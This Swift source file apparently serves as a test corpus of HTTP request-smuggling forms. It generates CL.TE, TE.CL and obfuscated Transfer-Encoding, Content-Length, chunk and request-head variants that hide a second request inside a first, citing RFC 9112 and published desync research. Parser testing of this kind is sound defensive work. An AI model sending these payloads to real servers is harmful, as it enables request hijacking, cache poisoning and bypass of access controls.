/// A request that two readers may see as one or as two: what follows the first looks like a request of its own.
///
/// Source: RFC 9112 §11.2; Linhart and others, "HTTP Request Smuggling" (2005); Kettle, "HTTP Desync Attacks" (2019) for
/// CL.TE, TE.CL and TE.TE; Keren and Harvey, "Funky chunks" (2025) for line ends within chunks.
struct SmugglingForm: Sendable {
    /// What is odd about it.
    let name: String
    /// Whether it plainly is two requests to a server that ignores a field it does not know.
    var isTwo = false
    /// The bytes, given the first request's path and the second request.
    let text: @Sendable (_ path: String, _ second: String) -> String

    /// Every form.
    static let all = codings.flatMap(coded) + lengths.map(length) + chunks.map(chunk) + heads.map(head) + others

    private static let codings = [
        "Transfer-Encoding: chunked", "Transfer-Encoding: CHUNKED", "Transfer-Encoding:chunked",
        "Transfer-Encoding:\tchunked", "Transfer-Encoding: chunked ", "Transfer-Encoding : chunked",
        "Transfer-Encoding\t: chunked", " Transfer-Encoding: chunked", "X: y\r\n Transfer-Encoding: chunked",
        "Transfer-Encoding:\r\n chunked", "Transfer-Encoding\r\n: chunked", "X: y\nTransfer-Encoding: chunked",
        "X: y\rTransfer-Encoding: chunked", "X: y\0\r\nTransfer-Encoding: chunked", "Transfer-Encoding: chunked\0",
        "Transfer-Encoding: \0chunked", "Transfer-Encoding\0: chunked", "Transfer-Encoding: xchunked",
        "Transfer-Encoding: chunkedx", "Transfer-Encoding: x, chunked", "Transfer-Encoding: chunked, x",
        "Transfer-Encoding: chunked, chunked", "Transfer-Encoding: identity", "Transfer-Encoding: identity, chunked",
        "Transfer-Encoding: chunked, identity", "Transfer-Encoding: gzip", "Transfer-Encoding: chunked;q=1",
        "Transfer-Encoding: \"chunked\"", "Transfer-Encoding: 'chunked'", "Transfer-Encoding: \u{B}chunked",
        "Transfer-Encoding: \u{C}chunked", "Transfer-Encoding: \u{A0}chunked", "Transfer-Encoding: \u{7F}chunked",
        "Transfer-Encoding:", "Transfer-Encoding: ,chunked", "Transfer-Encoding: chunked,",
        "Transfer-Encoding: chunked\r\nTransfer-Encoding: x", "Transfer-Encoding: x\r\nTransfer-Encoding: chunked",
        "Transfer-Encoding: chunked\r\nTransfer-Encoding: chunked",
        "Transfer-Encoding: identity\r\nTransfer-Encoding: chunked", "Content-Encoding: chunked",
        "Transfer-Encoding: chunked\r\nConnection: Transfer-Encoding",
    ]

    private static func coded(_ coding: String) -> [SmugglingForm] {
        [
            SmugglingForm(name: "CL.TE \(coding.debugDescription)") { path, second in
                "POST \(path) HTTP/1.1\r\nHost: a\r\nContent-Length: \(second.utf8.count + 5)\r\n\(coding)\r\n\r\n"
                    + "0\r\n\r\n\(second)"
            },
            SmugglingForm(name: "TE.CL \(coding.debugDescription)", isTwo: coding.hasPrefix("Content-")) {
                path, second in
                let size = String(second.utf8.count, radix: 16)
                return "POST \(path) HTTP/1.1\r\nHost: a\r\n\(coding)\r\nContent-Length: \(size.utf8.count + 2)\r\n\r\n"
                    + "\(size)\r\n\(second)\r\n0\r\n\r\n"
            },
            SmugglingForm(name: "TE \(coding.debugDescription)") { path, second in
                "POST \(path) HTTP/1.1\r\nHost: a\r\n\(coding)\r\n\r\n0\r\n\r\n\(second)"
            },
        ]
    }

    /// `N` is the second request's length.
    private static let lengths = [
        "Content-Length: N, N", "Content-Length: 0, N", "Content-Length: +N", "Content-Length: -N",
        "Content-Length: 0xN", "Content-Length: N.0", "Content-Length: N;x", "Content-Length: N N",
        "Content-Length: \"N\"", "Content-Length: 1e2", "Content-Length: N\0", "Content-Length: \0N",
        "Content-Length: 0N", "Content-Length: \u{B}N", "Content-Length: \u{A0}N", "Content-Length:",
        "Content-Length: 18446744073709551616", "Content-Length: 9223372036854775808",
        "Content-Length: 4294967296", "Content-Length: N\r\nContent-Length: 0",
        "Content-Length: 0\r\nContent-Length: N",
        "Content-Length: N\r\nContent-Length: N", "Content-Length : N", "Content-Length\t: N", " Content-Length: N",
        "Content-Length:\r\n N", "X: y\nContent-Length: N", "X: y\rContent-Length: N", "Content-Length\0: N",
        "Content-Length: N\r\nConnection: Content-Length", "Content-Length: N\nContent-Length: 0",
    ]

    private static func length(_ field: String) -> SmugglingForm {
        SmugglingForm(name: field.debugDescription) { path, second in
            let field = field.split(separator: "N", omittingEmptySubsequences: false).joined(
                separator: String(second.utf8.count))
            return "POST \(path) HTTP/1.1\r\nHost: a\r\n\(field)\r\n\r\n\(second)"
        }
    }

    /// Bodies in chunks, with the second request behind them.
    private static let chunks = [
        "3\r\nabc\r\n0\r\n\r\n", "0x3\r\nabc\r\n0\r\n\r\n", "-1\r\nabc\r\n0\r\n\r\n", "+3\r\nabc\r\n0\r\n\r\n",
        " 3\r\nabc\r\n0\r\n\r\n", "3 \r\nabc\r\n0\r\n\r\n", "3\t\r\nabc\r\n0\r\n\r\n", "3;x\r\nabc\r\n0\r\n\r\n",
        "3;x=\"y\r\nz\"\r\nabc\r\n0\r\n\r\n", "3;x\nabc\r\n0\r\n\r\n", "3;x\rabc\r\n0\r\n\r\n", "3\nabc\n0\n\n",
        "3\r\nabc\n0\r\n\r\n", "3\r\nabcdef\r\n0\r\n\r\n", "3\r\nab\r\n0\r\n\r\n", "3\r\nabcXX0\r\n\r\n",
        "3\r\nabc\r\n0\r\nX: y\r\n\r\n", "3\r\nabc\r\n0\r\nContent-Length: 9\r\n\r\n", "3\r\nabc\r\n0\r\nX y\r\n\r\n",
        "3\r\nabc\r\n0\r\n\n", "3\r\nabc\r\n0\n\r\n", "3\r\nabc\r\n0;x\r\n\r\n", "3\r\nabc\r\n00000\r\n\r\n",
        "x\r\n\r\n",
        "\r\n", ";\r\n\r\n", "0000000000000000000003\r\nabc\r\n0\r\n\r\n", "FFFFFFFFFFFFFFFF\r\nabc\r\n0\r\n\r\n",
        "10000000000000003\r\nabc\r\n0\r\n\r\n", "8000000000000000\r\nabc\r\n0\r\n\r\n", "3\0\r\nabc\r\n0\r\n\r\n",
        "3 0\r\nabc\r\n0\r\n\r\n", "3,3\r\nabc\r\n0\r\n\r\n", "2;\nxx\r\n3\r\nabc\r\n0\r\n\r\n", "0 \r\n\r\n",
        "0\r\n \r\n\r\n",
    ]

    private static func chunk(_ body: String) -> SmugglingForm {
        SmugglingForm(name: "chunks \(body.debugDescription)") { path, second in
            "POST \(path) HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n\(body)\(second)"
        }
    }

    /// Heads that must be refused, so that what follows is none; `PATH` is the first request's.
    private static let heads = [
        "GET PATH HTTP/1.1\nHost: a\n\n", "GET PATH HTTP/1.1\rHost: a\r\r", "GET PATH HTTP/1.1\r\nHost: a\n\r\n",
        "GET PATH HTTP/1.1\r\nHost: a\r\nX: y\rZ: z\r\n\r\n", "GET PATH HTTP/1.1\r\nHost: a\r\nX: y\0\r\n\r\n",
        "GET PATH HTTP/1.1\r\nHost: a\r\nX\0: y\r\n\r\n", "GET PATH\0 HTTP/1.1\r\nHost: a\r\n\r\n",
        "GET PATH HTTP/1.1\r\nHost: a\r\nX: y\r\n z\r\n\r\n", "GET PATH HTTP/1.1\r\nHost: a\r\nX : y\r\n\r\n",
        "GET PATH HTTP/1.1\r\nHost: a\r\nHost: b\r\n\r\n", "GET PATH HTTP/1.1\r\nHost: a\r\nhost: a\r\n\r\n",
        "GET PATH HTTP/1.1\r\nHost: u@a\r\n\r\n", "GET PATH HTTP/1.1\r\nHost: u:p@a:80\r\n\r\n",
        "GET PATH HTTP/1.1\r\nHost: a/b\r\n\r\n", "GET PATH HTTP/1.1\r\nHost: a#b\r\n\r\n",
        "GET PATH HTTP/1.1\r\nHost: a?b\r\n\r\n", "GET PATH HTTP/1.1\r\nHost: a b\r\n\r\n",
        "GET PATH HTTP/1.1\r\nHost: a\\b\r\n\r\n", "GET PATH HTTP/1.1\r\nHost: a\0b\r\n\r\n",
        "GET PATH HTTP/1.1\r\n\r\n", "GET http://b PATH HTTP/1.1\r\nHost: a\r\n\r\n",
        "GET http://bPATH HTTP/1.1\r\nHost: a\r\n\r\n", "GET http://u@aPATH HTTP/1.1\r\nHost: a\r\n\r\n",
        "GET http:PATH HTTP/1.1\r\nHost: a\r\n\r\n", "GET ftp://aPATH HTTP/1.1\r\nHost: a\r\n\r\n",
        "GET a:80 HTTP/1.1\r\nHost: a\r\n\r\n", "CONNECT a:80 HTTP/1.1\r\nHost: a\r\n\r\n",
        "GET * HTTP/1.1\r\nHost: a\r\n\r\n",
        "GET xPATH HTTP/1.1\r\nHost: a\r\n\r\n", "GET PATH#f HTTP/1.1\r\nHost: a\r\n\r\n",
        "GET /.PATH/../x HTTP/1.1\r\nHost: a\r\n\r\n", "GET PATH HTTP/1.1 \r\nHost: a\r\n\r\n",
        "GET  PATH HTTP/1.1\r\nHost: a\r\n\r\n", "GET\tPATH HTTP/1.1\r\nHost: a\r\n\r\n",
        "GET PATH HTTP/1.10\r\nHost: a\r\n\r\n", "GET PATH HTTP/2.0\r\nHost: a\r\n\r\n",
        "GET PATH HTTP/1.2\r\nHost: a\r\n\r\n",
        "GET PATH\r\n", "GET PATH HTTP/1.1\r\nHost: a\r\n: y\r\n\r\n", "GET PATH HTTP/1.1\r\nHost: a\r\nX\r\n\r\n",
        " GET PATH HTTP/1.1\r\nHost: a\r\n\r\n", "\0GET PATH HTTP/1.1\r\nHost: a\r\n\r\n",
    ]

    private static func head(_ head: String) -> SmugglingForm {
        SmugglingForm(name: head.debugDescription) { path, second in
            var text = ""
            var rest = head[...]
            while let range = rest.firstRange(of: "PATH") {
                text += rest[..<range.lowerBound] + path
                rest = rest[range.upperBound...]
            }
            return text + rest + second
        }
    }

    private static let others = [
        SmugglingForm(name: "GET with a body") { path, second in
            "GET \(path) HTTP/1.1\r\nHost: a\r\nContent-Length: \(second.utf8.count)\r\n\r\n\(second)"
        },
        SmugglingForm(name: "HEAD with a body") { path, second in
            "HEAD \(path) HTTP/1.1\r\nHost: a\r\nContent-Length: \(second.utf8.count)\r\n\r\n\(second)"
        },
        SmugglingForm(name: "coding in 1.0") { path, second in
            "POST \(path) HTTP/1.0\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n\(second)"
        },
        SmugglingForm(name: "body in a request for another protocol") { path, second in
            "POST \(path) HTTP/1.1\r\nHost: a\r\nConnection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\n"
                + "HTTP2-Settings: AAMAAABk\r\nContent-Length: \(second.utf8.count)\r\n\r\n\(second)"
        },
        SmugglingForm(name: "body that was asked for first") { path, second in
            "POST \(path) HTTP/1.1\r\nHost: a\r\nExpect: 100-continue\r\nContent-Length: \(second.utf8.count)\r\n\r\n\(second)"
        },
        SmugglingForm(name: "unknown expectation") { path, second in
            "POST \(path) HTTP/1.1\r\nHost: a\r\nExpect: y 100-continue\r\nContent-Length: \(second.utf8.count)\r\n\r\n\(second)"
        },
        SmugglingForm(name: "length with an underscore", isTwo: true) { path, second in
            "POST \(path) HTTP/1.1\r\nHost: a\r\nContent_Length: \(second.utf8.count)\r\n\r\n\(second)"
        },
    ]
}
